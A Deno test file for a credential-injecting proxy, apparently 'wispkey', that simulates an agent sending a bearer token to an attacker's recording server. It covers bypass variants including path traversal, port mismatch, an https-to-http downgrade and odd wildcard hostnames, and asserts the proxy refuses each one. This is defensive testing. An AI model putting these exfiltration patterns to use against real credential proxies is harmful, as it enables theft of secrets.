/** The plainest attack: the agent sends its token to a server of its own and reads what arrives there. */

import assert from "node:assert/strict";
import { get, parse, recordingServer, send, withProxy } from "../proxy/harness.ts";
import { naiveProxy } from "./naive_proxy.ts";

const SECRET = "sk-live-the-real-value-0042";

/** What the credential's owner said, and how the attacker's server is reached. */
const CASES: Record<string, (thief: number) => { hosts: string; url: string }> = {
  "no host was given": (thief) => ({ hosts: "", url: `http://127.0.0.1:${thief}/` }),
  "another host was given": (thief) => ({ hosts: "api.openai.com", url: `http://127.0.0.1:${thief}/` }),
  "the same host, another port": (thief) => ({ hosts: "127.0.0.1:9", url: `http://127.0.0.1:${thief}/` }),
  "https was given, and it goes in clear": (thief) => ({
    hosts: `https://127.0.0.1:${thief}`,
    url: `http://127.0.0.1:${thief}/`,
  }),
  "a path was given, and another is asked": (thief) => ({
    hosts: `127.0.0.1:${thief}/v1/*`,
    url: `http://127.0.0.1:${thief}/v1/../v2`,
  }),
  "a wildcard that reaches this machine by an odd name": (thief) => ({
    hosts: `*.wide.test:${thief}`,
    url: `http://x.wide.test:${thief}/`,
  }),
};

for (const [what, build] of Object.entries(CASES)) {
  Deno.test(`a token sent to the attacker's server stays a token: ${what}`, () =>
    withProxy(async ({ keyring, port }) => {
      const thief = recordingServer();
      const naive = naiveProxy({
        target: () => ({ port: thief.port }),
        rewrite: (request) => request.replace(token, SECRET),
      });
      const { hosts, url } = build(thief.port);
      const { token } = keyring.add({ hosts, value: SECRET });
      try {
        const { host } = new URL(url);
        const request = get(url, `Host: ${host}`, `Authorization: Bearer ${token}`);
        await send(naive.port, request);
        assert.ok(
          thief.received.join().includes(SECRET),
          "the attack does not even work against a naive proxy",
        );
        thief.received.length = 0;

        const answer = parse(await send(port, request));
        assert.equal(answer.status, 403, answer.body);
        assert.match(answer.headers.get("x-wispkey-error") ?? "", /^(?:host_not_allowed|address_refused)$/);
        assert.deepEqual(thief.received, []);
        const opened = keyring.handedOut.filter((bytes) => bytes.some((byte) => byte !== 0));
        assert.deepEqual(opened, [], "whatever was opened was wiped");
      } finally {
        await naive.close();
        await thief.close();
      }
    }, { resolve: () => Promise.resolve(["127.0.0.1"]) }));
}
